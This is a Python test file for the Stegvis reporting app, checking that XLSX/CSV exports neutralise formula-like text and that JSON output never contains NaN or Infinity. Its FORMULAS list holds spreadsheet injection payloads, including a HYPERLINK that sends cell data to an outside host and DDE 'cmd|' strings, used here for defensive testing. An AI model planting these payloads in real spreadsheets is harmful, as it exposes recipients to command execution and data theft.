"""What Stegvis writes is what it says: no live formula in a spreadsheet, no NaN in JSON.

A municipality or referring party named ``=HYPERLINK(…)`` or ``+1+cmd|x`` became a live
formula in the report's XLSX (and the archived copy a board member downloads) and an
unescaped CSV cell; a survey answer ``NaN`` or ``1e999`` was stored on SQLite and then
printed as ``NaN``/``Infinity``, which is not JSON.  Names that start like a formula are
refused when typed; whatever is in a report's text cells is escaped on the way out (one
function, engine.inputs.spreadsheet); numbers in JSON are finite.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from case_helpers import enrol_person
from conftest import MovableClock
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from report_samples import sample_report
from sqlalchemy import text
from sqlmodel import SQLModel

from engine.cli.program import main
from engine.errors import InputError
from engine.inputs.spreadsheet import FORMULA_PREFIXES
from engine.reports.render_csv import render_csv_files
from engine.reports.render_xlsx import render_xlsx
from engine.service.shared.context import Context
from engine.service.shared.text_checks import NAMES, check_value
from engine.store.database import open_database

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Klicka\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|x", "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "=1+1"]
formulas = st.builds(lambda head, tail: head + tail, st.sampled_from(FORMULAS),
                     st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=10))


def _hostile(report: Any, labels: list[str]) -> Any:
    """The report with its programme name and every row label replaced by ``labels``."""
    tables = tuple(replace(t, rows=tuple(replace(r, label=labels[i % len(labels)])
                                         for i, r in enumerate(t.rows)))
                   for t in report.tables)
    return replace(report, tables=tables, programme_name=labels[0])


@settings(max_examples=25, deadline=None, derandomize=True)
@given(labels=st.lists(formulas, min_size=1, max_size=5))
def test_no_text_in_a_report_spreadsheet_is_a_formula(labels: list[str]) -> None:
    report = _hostile(sample_report(), labels)
    book = load_workbook(io.BytesIO(render_xlsx(report)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
                    pytest.fail(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    for data in render_csv_files(report).values():
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            for cell in row:
                if cell.startswith(FORMULA_PREFIXES):
                    float(cell)  # only a plain number may start with - or +, name


@pytest.mark.parametrize(("table", "column"), sorted(NAMES))
def test_a_name_that_starts_like_a_formula_is_refused_where_it_is_typed(
        table: str, column: str) -> None:
    for name in FORMULAS:
        with pytest.raises(InputError) as refused:
            check_value(SQLModel.metadata.tables[table], column, name)
        assert refused.value.kind in ("formula_prefix", "text_control_character")
    check_value(SQLModel.metadata.tables[table], column, "Hagfors")


def _run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


def _strict_json(text: str) -> Any:
    def refuse(word: str) -> None:
        raise AssertionError(f"{word} is not JSON")
    return json.loads(text, parse_constant=refuse)


@pytest.mark.parametrize("answer", ["NaN", "Infinity", "-Infinity", "1e999", "-1e999"])
def test_a_survey_answer_that_is_no_finite_number_is_refused_and_never_printed(
        tmp_path: Path, clock: MovableClock, answer: str) -> None:
    url = f"sqlite:///{tmp_path / 'stegvis.db'}"
    clock.set_day(date(2024, 2, 1))
    ctx = Context(open_database(url), clock)
    case = enrol_person(ctx, "vasteras", "V-1", date(2024, 1, 31),
                        municipality="Västerås").case_id
    database = ["--database", url, "--as", "anna", "--today", "2024-02-01"]
    code, _, err = _run("survey", str(case), "startenkat", "--answer", f"halsa={answer}",
                        *database)
    assert code == 1 and "not a finite number" in err and "Traceback" not in err
    with ctx.engine.begin() as connection:  # as stored before the rule, on SQLite
        connection.execute(text(
            "INSERT INTO survey_answers (case_id, survey, answered_on, answers) VALUES "
            "(:case, 'startenkat', '2024-02-01', :answers)"),
            {"case": case, "answers": '{"halsa": NaN, "kommentar": "bra"}'})
    ctx.engine.dispose()
    for argv in (["export-participant", "V-1"], ["case", "show", str(case), "--json"]):
        code, out, err = _run(*argv, *database)
        assert code == 0, err
        _strict_json(out)
